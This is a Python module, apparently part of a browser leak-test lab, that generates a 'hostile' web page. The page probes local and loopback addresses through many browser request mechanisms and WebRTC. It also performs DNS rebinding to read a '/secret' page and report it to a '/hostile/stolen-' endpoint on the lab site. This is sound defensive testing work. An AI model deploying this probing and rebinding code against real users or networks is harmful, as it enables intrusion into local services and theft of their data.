"""A page that tries to reach the host and network around the browser, in every way that a page has; for leak tests.

`/hostile?at=127.0.0.1:8080&at=...&rebind=NAME:8080&...`; it asks for `/hostile/began` first, and for `/hostile/done`
when everything was tried. The listeners there record what was reached, and how, because a page learns little. A page
does learn if a name was bound to another address (REBIND_NAME): then it asks for `/hostile/stolen-NAME`.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Final

from lab.topology import SITE_NAME

_WAYS: Final = {
    "cors": "fetch(url)",
    "no-cors": 'fetch(url, {mode: "no-cors"})',
    "local": 'fetch(url, {mode: "no-cors", targetAddressSpace: "local"})',
    "loopback": 'fetch(url, {mode: "no-cors", targetAddressSpace: "loopback"})',
    "beacon": 'navigator.sendBeacon(url, "any")',
    "socket": 'event(new WebSocket(url.replace("http", "ws")), "open")',
    "events": 'event(new EventSource(url), "open")',
    "image": 'element("img", {src: url})',
    "script": 'element("script", {src: url})',
    "style": 'element("link", {rel: "stylesheet", href: url})',
    "video": 'event(add("video", {src: url, preload: "auto"}), "suspend")',
    "frame": 'element("iframe", {src: url})',
    "form": "form(url)",
    "left": "left(url)",
}
WAYS: Final = (*_WAYS, "window", "location")
"""The path that each way asks for, without the slash: `window` opens one, `location` navigates it."""
_SECURE: Final = ("no-cors", "socket", "image", "frame")
"""Those that are tried by HTTPS as well."""
_SCRIPT: Final = """
const wait = milliseconds => new Promise(resolve => setTimeout(resolve, milliseconds));
const add = (kind, properties) => document.body.appendChild(Object.assign(document.createElement(kind), properties));
const event = (made, name) => new Promise(done => { made["on" + name] = made.onerror = done; });
const element = (kind, properties) => event(add(kind, properties), "load");
const form = url => {
  const name = "frame" + Math.random(), frame = add("iframe", {name});
  add("form", {method: "post", action: url, target: name}).submit();
  return event(frame, "load");
};
const left = url => {
  const frame = add("iframe", {});
  frame.contentWindow.location = url;
  return event(frame, "load");
};
const calling = async at => {
  const connection = new RTCPeerConnection({iceServers: [{urls: `stun:${at}`}]});
  connection.createDataChannel("any");
  await connection.setLocalDescription(await connection.createOffer());
};
const windows = async at => {
  const opened = open(`http://${at}/window`);
  await wait(2000);
  opened.location = `http://${at}/location`;
  await wait(2000);
  opened.close();
};
const rebound = at => {
  add("iframe", {src: `http://${at}/hostile/rebound`});
  return new Promise(done => addEventListener("message", event => { if (event.data == at) done(); }));
};
const attempt = async work => { try { await Promise.race([work(), wait(5000)]); } catch { } };
const every = async (schemes, at) => Promise.all(schemes.flatMap(([scheme, names]) => names.map(
  name => attempt(() => ways[name](`${scheme}://${at}/${name}`)))));
(async () => {
  await fetch("/hostile/began");
  const beside = [...names.map(at => attempt(() => rebound(at))), ...addresses.map(at => attempt(() => windows(at)))];
  // One after the other: all at once they would wait for the page's own work. Not for the slowest, though: Chrome
  // holds WebSockets back for seconds when others have failed.
  for (const at of addresses) {
    const trying = every([["http", Object.keys(ways)], ["https", secure]], at);
    beside.push(attempt(() => calling(at)), trying);
    await Promise.race([trying, wait(300)]);
  }
  await Promise.all(beside);
  await wait(500);
  await fetch("/hostile/done");
})();
"""
# A look-up of its own for the window: Chrome keeps answers for a minute, but apart for each site that is on top
# (net/dns/host_cache.h, network partitioning). What comes there from anywhere counts as this frame's own.
_REBOUND: Final = """
const wait = milliseconds => new Promise(resolve => setTimeout(resolve, milliseconds));
// Nothing while it loads; null for what is not ours to read, an error page among that.
const read = opened => { try { return opened.document.body?.innerText ?? ""; } catch { return null; } };
(async () => {
  const opened = open("/secret");
  let found = "";
  for (let tries = 0; tries < 40 && found === ""; tries++) { await wait(100); found = read(opened); }
  if (found?.includes("secret of")) await fetch(`http://%s/hostile/stolen-${location.host}`, {mode: "no-cors"});
  opened.close();
  parent.postMessage(location.host, "*");
})();
"""


def page(addresses: Sequence[str], names: Sequence[str]) -> str:
    """The page that tries ADDRESSES, and NAMES that are bound to others later; each `HOST:PORT`."""
    ways = ", ".join(f'"{name}": url => {script}' for name, script in _WAYS.items())
    known = f"const addresses = {_list(addresses)}, names = {_list(names)}, secure = {_list(_SECURE)};"
    return _page(f"{known}const ways = {{{ways}}};{_SCRIPT}")


def rebound() -> str:
    """The page in a frame of that one, under a name that is bound to another address by now."""
    return _page(_REBOUND % SITE_NAME)


def _page(script: str) -> str:
    return f"<!doctype html><meta charset=utf-8><body><script>{script}</script></body>"


def _list(texts: Sequence[str]) -> str:
    return json.dumps(list(texts)).replace("<", "\\u003c")
